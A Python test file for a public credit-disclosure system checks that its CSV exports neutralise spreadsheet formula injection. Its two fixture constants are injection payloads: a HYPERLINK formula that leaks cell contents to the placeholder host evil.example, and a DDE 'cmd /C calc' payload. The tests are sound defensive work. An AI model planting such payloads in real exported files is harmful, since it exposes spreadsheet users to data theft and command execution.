"""The public CSV exports (subject, 双公示 list, search): provider text never reaches a spreadsheet as a
formula (OWASP's rule, applied by xinyong.spreadsheet to every cell)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from xinyong.collect.service import ingest
from xinyong.disclose.export import list_csv, search_csv, subject_csv
from xinyong.disclose.lists import ListFilter, publicity_list
from xinyong.disclose.search import Hit, SearchResult
from xinyong.disclose.service import disclose
from xinyong.policy import load_policy

from .builders import SUBMITTER, Timeline, _penalty, write_file

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
FORMULA_AUTHORITY = "@SUM(1+1)*cmd|' /C calc'!A0"


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _formula_penalty(t: Timeline, tmp: Path) -> None:
    row = _penalty(
        "武环罚〔2026〕9号", "2026-05-20", "吊销许可证件", cf_wfxw=FORMULA_TITLE, cf_cfjg=FORMULA_AUTHORITY
    )
    path = write_file(tmp / "formula.csv", t.catalog, "XZCF", [row])
    summary = ingest(t.runtime, path=path, item_code="XZCF", submitter_uscc=SUBMITTER, catalog=t.catalog)
    assert summary.rejected == 0


def no_formula(rows: list[list[str]]) -> None:
    starts = [c for row in rows for c in row if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not starts, starts


def test_subject_and_list_exports_neutralise_formulas(timeline: Timeline, tmp_path: Path) -> None:
    t = timeline
    _formula_penalty(t, tmp_path)
    with t.runtime.engine.connect() as conn:
        result = disclose(
            conn, subject_id=t.company_id, audience="public", clock=t.runtime.clock, catalog=t.catalog
        )
        page = publicity_list(
            conn,
            ListFilter(item="XZCF"),
            catalog=t.catalog,
            policy=load_policy(),
            clock=t.runtime.clock,
        )
    subject = cells(subject_csv(result))
    assert [c for row in subject for c in row if FORMULA_TITLE in c and "{" not in c] == ["'" + FORMULA_TITLE]
    no_formula(subject)
    listed = cells(list_csv(page.rows, t.catalog.item("XZCF")))
    assert any("'" + FORMULA_AUTHORITY in row for row in listed)
    no_formula(listed)


def test_search_export_neutralises_formulas() -> None:
    hit = Hit(1, "=1+1", "=1+1科技有限公司", "legal_person", None, "@武汉市", "name")
    rows = cells(search_csv(SearchResult(query="x", hits=[hit])))
    assert rows[1][:2] == ["'=1+1", "'=1+1科技有限公司"] and rows[1][4] == "'@武汉市"
    no_formula(rows)
